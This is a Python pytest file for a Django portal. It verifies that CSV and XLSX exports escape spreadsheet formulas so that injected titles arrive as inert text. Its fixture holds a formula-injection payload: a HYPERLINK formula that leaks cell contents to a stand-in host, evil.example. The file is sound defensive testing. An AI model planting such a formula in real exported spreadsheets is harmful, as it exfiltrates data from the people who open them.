"""Every CSV and XLSX export escapes spreadsheet formulas (core.exports): a title that starts
with "=" arrives as inert text (a leading apostrophe), in each export of the portal."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from governance.models import OrganisationUnit
from portfolio.choices import ProjectState
from portfolio.reports import exports as report_exports
from portfolio.reports.builder import build_figures
from portfolio.reports.quarters import Quarter
from survey import exports as survey_exports
from survey.models import Topic
from tests.budgets.factories import CycleFactory, submission_of
from tests.governance.factories import MotionFactory, body
from tests.portfolio.factories import draft, walk
from tests.reports.factories import decision
from tests.survey.factories import SurveyFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
INERT = "'" + HYPERLINK


def _csv_cells(data):
    text = data.decode("utf-8-sig") if isinstance(data, bytes) else data
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_inert_csv(data):
    cells = _csv_cells(data)
    assert INERT in cells
    assert not any(cell.startswith("=") for cell in cells)


def _assert_inert_xlsx(data):
    book = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert any(cell.value == INERT for cell in cells)
    assert not any(cell.data_type == "f" for cell in cells)


def _named_unit(code):
    unit = OrganisationUnit.objects.get(code=code)
    unit.name_en = HYPERLINK
    unit.save()


def test_the_decisions_register_csv(client, personas):
    motion = MotionFactory(body=body("km-steering"), title=HYPERLINK)
    decision(
        body="km-steering",
        subject=motion,
        outcome="approved",
        recorded="2026-05-04",
        recorder=personas["km.chair"],
    )
    client.force_login(personas["pmo"])
    _assert_inert_csv(client.get(reverse("governance:decisions") + "?format=csv").content)


def test_the_pipeline_csv(client, personas):
    draft(personas, title=HYPERLINK)
    client.force_login(personas["pmo"])
    _assert_inert_csv(client.get(reverse("portfolio:pipeline") + "?format=csv").content)


def test_the_budget_consolidation_csv_and_xlsx(client, cito):
    cycle = CycleFactory()
    submission_of("unog", state="approved")
    _named_unit("unog")
    client.force_login(cito)
    query = f"?cycle={cycle.code}"
    _assert_inert_csv(client.get(reverse("budgets:consolidation_csv") + query).content)
    _assert_inert_xlsx(client.get(reverse("budgets:consolidation_xlsx") + query).content)


def test_the_staffing_summary_csv(client, staff):
    _named_unit(OrganisationUnit.objects.filter(annex_iv_row__isnull=False).first().code)
    client.force_login(staff)
    response = client.get(reverse("staffing:summary_csv"), {"as_of": "2007-12-31"})
    _assert_inert_csv(response.content)


def test_the_survey_results_csv_and_xlsx():
    topic = Topic.objects.first()
    topic.name_en, topic.name_zh_hans = HYPERLINK, None
    topic.save()
    survey = SurveyFactory(topics=[Topic.objects.get(pk=topic.pk)])
    _assert_inert_csv(survey_exports.as_csv(survey))
    _assert_inert_xlsx(survey_exports.as_xlsx(survey))


def test_the_quarterly_report_workbook_and_csv_files(personas):
    # The report lists submitted work, never drafts (issue 17): the title reaches it once submitted.
    project = walk(draft(personas, title=HYPERLINK), personas, ProjectState.SUBMITTED)
    figures = build_figures(Quarter.of(project.created_at.date()))
    _assert_inert_xlsx(report_exports.workbook_bytes(figures))
    for section in report_exports.sections(figures):
        if section.key == "projects":
            _assert_inert_csv(report_exports.section_csv(section))
    archive = report_exports.csv_archive_bytes(figures)
    _assert_inert_csv(report_exports.csv_from_archive(archive, "projects"))


def test_no_app_writes_csv_or_appends_worksheet_rows_but_through_core_exports():
    root = Path(__file__).resolve().parent.parent
    offenders = [
        str(path.relative_to(root))
        for package in ("config", "governance", "programmes", "portfolio", "survey", "staffing")
        for path in (root / package).rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(|sheet\.append\(", path.read_text())
    ]
    assert offenders == []
